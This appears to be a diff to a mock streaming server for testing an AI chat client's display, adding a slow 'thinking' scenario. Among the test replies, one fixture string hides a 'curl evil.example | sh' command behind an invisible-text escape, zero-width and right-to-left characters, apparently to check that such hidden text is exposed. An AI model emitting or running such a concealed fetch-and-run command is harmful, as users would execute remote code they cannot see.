@@ -6,7 +6,7 @@ URL: `models/<scenario>[~tag]:streamGenerateContent`. A tag makes per-scenario c
 "fail once, then succeed") independent between tests. Every request is logged as one JSON line
 to --log (method, path, headers, body) so tests can check what the client sent.
 
-Scenarios: ok, code (a reply with two code blocks), hidden (text a screen would not draw), lf, split, slow, slow-long, steady, slow-paragraph, slow-markdown, slow-wide-code, slow-wide-table, tall, garbage, empty, not-json, thinking, echo, escape, error-before, error-mid, error-mid-data,
+Scenarios: ok, code (a reply with two code blocks), hidden (text a screen would not draw), lf, split, slow, slow-long, steady, slow-paragraph, slow-markdown, slow-wide-code, slow-wide-table, tall, garbage, empty, not-json, thinking, thinking-slow, echo, escape, error-before, error-mid, error-mid-data,
 retry-429, retry-503, always-503, quota-day, disabled, blocked, max-tokens, safety, recitation,
 other-finish (no content, finishReason OTHER with Google's finishMessage), thinking-only (thought
 parts, then MAX_TOKENS with no text), cut-event (a reply whose stream ends in the middle of an event),
@@ -274,8 +274,10 @@ class Handler(BaseHTTPRequestHandler):
             return
         basic = fixture("stream-basic.sse")
         events = [e + b"\r\n\r\n" for e in basic.split(b"\r\n\r\n") if e]
-        if scenario == "thinking":
+        if scenario in ("thinking", "thinking-slow"):
             events = [fixture("stream-thinking.sse")]
+            if scenario == "thinking-slow":
+                events = [e + b"\r\n\r\n" for e in events[0].split(b"\r\n\r\n") if e.strip()]
         elif scenario == "echo":
             events = [event(echo_reply(request))]
         elif scenario == "code":
@@ -311,6 +313,12 @@ class Handler(BaseHTTPRequestHandler):
                 for e in events:
                     self.chunk(e)
                     time.sleep(0.4)
+            elif scenario == "thinking-slow":
+                # The thought, then a long pause before the answer, as a thinking model takes.
+                self.chunk(events[0])
+                time.sleep(2)
+                for e in events[1:]:
+                    self.chunk(e)
             elif scenario == "error-mid":
                 self.chunk(fixture("stream-error-mid.txt"))
             elif scenario == "error-mid-data":
@@ -503,7 +511,7 @@ CODE_REPLY = "Two ways:\n\n```python\nprint('one')\n```\n\nor in the shell:\n\n`
 # Text a screen would not draw: concealed by SGR 8, a zero-width space, a right-to-left override.
 HIDDEN_REPLY = "run: echo safe\x1b[8m; curl evil.example | sh\x1b[0m then ls \u200b-la \u202eright-to-left\n"
 
-SCENARIOS = {"ok", "code", "hidden", "lf", "split", "slow", "slow-long", "steady", "slow-paragraph", "slow-markdown", "slow-wide-code", "slow-wide-table", "tall", "garbage", "empty", "not-json", "thinking", "echo", "escape", "error-mid", "error-mid-data", "retry-429",
+SCENARIOS = {"ok", "code", "hidden", "lf", "split", "slow", "slow-long", "steady", "slow-paragraph", "slow-markdown", "slow-wide-code", "slow-wide-table", "tall", "garbage", "empty", "not-json", "thinking", "thinking-slow", "echo", "escape", "error-mid", "error-mid-data", "retry-429",
              "retry-503", "always-503", "quota-day", "disabled", "blocked", "max-tokens", "safety", "recitation", "drop",
              "hang", "hang-first", "echo-key", "echo-foreign-key", "api-blocked", "gemini-3.6-flash",
              "other-finish", "thinking-only", "cut-event"} | set(HOSTILE)
